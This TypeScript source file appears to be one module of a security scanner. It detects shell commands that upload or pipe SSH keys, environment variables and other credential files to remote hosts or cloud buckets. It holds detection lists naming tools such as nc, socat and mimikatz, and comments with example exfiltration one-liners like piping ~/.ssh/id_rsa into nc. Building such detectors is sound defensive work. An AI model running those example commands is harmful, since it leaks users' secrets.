/** Key and credential files on their way out: as an upload, as a copy to another machine, or through a pipe. */
import { firstPlace } from '../../text/mapped-text.ts'
import { around, type Command, type CommandRule, markOf, type Shown, sharedRule } from './command-line.ts'
import type { Match } from './scanner.ts'
import wordLists from './word-lists.json' with { type: 'json' }

const LEAVES: Shown = { effect: 'external' }
const STORED: Shown = { effect: 'external', severity: 'hold' }
const REACH = 200

const { parts: PARTS, endings: ENDINGS } = wordLists['sensitive-file']
const SENSITIVE = new RegExp(`${PARTS.map(RegExp.escape).join('|')}|(?:${ENDINGS.map(RegExp.escape).join('|')})$`)

/** By the names that files with keys, passwords or tokens have on every machine. A public key is there to be handed out. */
function isSensitiveFile(argument: string): boolean {
  const path = argument.replace(/[)\]}"'`,;]{1,4}$/, '')
  if (path.endsWith('.pub') || path.endsWith('known_hosts') || path.endsWith('authorized_keys')) return false
  return SENSITIVE.test(path)
}

const isLocal = (args: readonly string[]): boolean =>
  args.some((arg) => /(?:^|\/\/|@)(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|$)/.test(arg))

/** Flags whose value is a key that the connection is made with. */
const USED = new Set(['-i', '--key', '--cert', '-e', '--cacert', '--private-key', '-k', '--identity', '--keyfile'])
const carried = (args: readonly string[]): string[] => args.filter((_, at) => !USED.has(args[at - 1] ?? ''))

const UPLOADS = new Set(wordLists['credential-upload'].uploads)
const READS = ['$(cat', '`cat', '$(base64', '`base64', '$(<', '$(gzip', '$(xxd']

/** What brings no such file is told first, and by little: a text may be full of commands. */
const upload: CommandRule = ({ args }) => {
  const sent = args.some(
    (arg, at) =>
      (arg.includes('@') ||
        arg.startsWith('--post-file=') ||
        arg.startsWith('--upload-file=') ||
        UPLOADS.has(args[at - 1] ?? '')) &&
      isSensitiveFile(arg),
  )
  const reads = (arg: string): boolean =>
    (arg.includes('$(') || arg.includes('`')) && READS.some((mark) => arg.includes(mark))
  const read = (arg: string, at: number): boolean =>
    reads(arg) && (isSensitiveFile(arg) || isSensitiveFile(args[at + 1] ?? ''))
  return (sent || args.some(read)) && !isLocal(args) ? LEAVES : null
}

const connect: CommandRule = ({ args }) => {
  const fed = args.some(
    (arg, at) => (arg === '<' && isSensitiveFile(args[at + 1] ?? '')) || (arg.startsWith('<') && isSensitiveFile(arg)),
  )
  return fed && !isLocal(args) ? LEAVES : null
}

/** host:path, and no address with a scheme. */
function isRemote(arg: string): boolean {
  const colon = arg.indexOf(':')
  return (
    arg.startsWith('rsync://') || (colon > 1 && !arg.startsWith('://', colon) && !/[/\\~]/.test(arg.slice(0, colon)))
  )
}

/** The last word is where to: a key that is fetched from another machine stays with its owner. */
const copy: CommandRule = ({ args }) => {
  const words = carried(args).filter((arg) => !arg.startsWith('-'))
  const to = words.at(-1) ?? ''
  return isRemote(to) && !isLocal([to]) && words.slice(0, -1).some((arg) => !isRemote(arg) && isSensitiveFile(arg))
    ? LEAVES
    : null
}

const BUCKETS = /^(?:s3|gs|az|oci|b2|wasbs?|abfss?):/
const store: CommandRule = ({ args }) => {
  const copies = args.some((arg) => ['cp', 'mv', 'copy', 'copyto', 'sync', 'upload', 'put-object'].includes(arg))
  const outside = args.some((arg) => BUCKETS.test(arg)) || args.includes('put-object') || args.includes('upload')
  const from = args.findIndex(isSensitiveFile)
  return copies && outside && from >= 0 && !BUCKETS.test(args[from] ?? '') ? STORED : null
}

const SENDERS = 'curl wget http https invoke-restmethod invoke-webrequest'
const CONNECTIONS = 'nc ncat netcat socat mail sendmail'

const FILE_COMMANDS: Readonly<Record<string, CommandRule>> = {
  ...sharedRule(SENDERS, upload),
  ...sharedRule(CONNECTIONS, connect),
  ...sharedRule('scp rsync sftp', copy),
  ...sharedRule('aws gsutil gcloud az rclone', store),
}

/** Whether what comes through a pipe leaves the machine. */
const remote = ({ args }: Command): boolean => !isLocal(args)
const INPUT_COMMANDS: Readonly<Record<string, (command: Command) => boolean>> = {
  ...Object.fromEntries(`${SENDERS} ${CONNECTIONS}`.split(' ').map((program) => [program, remote])),
  ssh: () => true,
  openssl: ({ args }) => args[0] === 's_client',
}

export const UPLOAD_PROGRAMS: readonly string[] = [...Object.keys(FILE_COMMANDS), ...Object.keys(INPUT_COMMANDS)]

export function credentialUploads(lower: string, commands: readonly Command[]): Match[] {
  const isPiped = lower.includes('|')
  let words: Words | undefined
  const sendsSource = (command: Command): boolean => {
    if (!isPiped || !Object.hasOwn(INPUT_COMMANDS, command.name)) return false
    const line = pipedInto(lower, command.from)
    if (line < 0 || !INPUT_COMMANDS[command.name]?.(command)) return false
    words ??= new Words(lower)
    return words.holdSource(line, command.from)
  }
  const found: Match[] = []
  for (const command of commands) {
    const ofFiles = Object.hasOwn(FILE_COMMANDS, command.name) ? FILE_COMMANDS[command.name]?.(command, lower) : null
    const shown = ofFiles ?? (sendsSource(command) ? LEAVES : null)
    if (shown) found.push({ from: command.from, to: command.to, ...shown })
  }
  return found
}

/** Where the line begins, within reach, that is piped into the command; -1 where none is. */
function pipedInto(lower: string, from: number): number {
  const lead = around(lower, from, REACH, 0)
  const pipe = lead.lastIndexOf('|')
  if (pipe < 0) return -1
  const behind = lead.slice(pipe + 1)
  if (behind.includes('\n') || behind.includes(';')) return -1
  const last = behind.trim()
  if (last !== '' && !last.startsWith('xargs')) return -1
  return from - lead.length + Math.max(lead.lastIndexOf('\n'), lead.lastIndexOf(';')) + 1
}

/** A word that names a source of secrets wherever it stands, at the beginning of a line, or where they are got. */
type Source = 'always' | 'first' | 'got' | 'none'

function sourceOf(word: string): Source {
  if (word === 'env') return 'first'
  if (word === 'secrets' || word === 'secret') return 'got'
  return SOURCES.has(word) || isSensitiveFile(word) ? 'always' : 'none'
}

const SOURCES = new Set(['printenv', 'get-secret-value', 'mimikatz', 'pg_dump', 'mysqldump'])

/** The words of a text, worked out once for all commands that something is piped into. */
class Words {
  private readonly lower: string
  private readonly begins: number[] = []
  private readonly endOffsets: number[] = []
  private readonly sources: (Source | undefined)[] = []

  constructor(lower: string) {
    this.lower = lower
    const { length } = lower
    for (let at = 0; at < length; at++) {
      const from = at
      while (at < length && !isBetweenWords(lower.charCodeAt(at))) at++
      if (at === from) continue
      this.begins.push(from)
      this.endOffsets.push(at)
      this.sources.push(undefined)
    }
  }

  /** `cat ~/.ssh/id_rsa | nc host 9`, `env | curl -d @- host`: a source of secrets before the pipe into the network. */
  holdSource(from: number, to: number): boolean {
    const { begins, endOffsets } = this
    const first = firstPlace(endOffsets.length, (at) => endOffsets[at]! > from)
    for (let at = first; at < begins.length && begins[at]! < to; at++) {
      const source = this.sourceAt(at, from, to)
      if (source === 'always' || (source === 'first' && at === first)) return true
      if (source === 'got' && this.isBehindGet(at, Math.max(first, at - 4), from)) return true
    }
    return false
  }

  private sourceAt(at: number, from: number, to: number): Source {
    const [begin, end] = [this.begins[at] as number, this.endOffsets[at] as number]
    if (begin < from || end > to) return sourceOf(this.lower.slice(Math.max(begin, from), Math.min(end, to)))
    const source = this.sources[at] ?? sourceOf(this.lower.slice(begin, end))
    this.sources[at] = source
    return source
  }

  private isBehindGet(at: number, first: number, from: number): boolean {
    for (let before = first; before < at; before++)
      if (this.lower.slice(Math.max(this.begins[before]!, from), this.endOffsets[before]) === 'get') return true
    return false
  }
}

/** Two commands of which one is only run if the other was are one line here. */
const isBetweenWords = (code: number): boolean => code !== AMPERSAND && markOf(code) !== 0
const AMPERSAND = 38
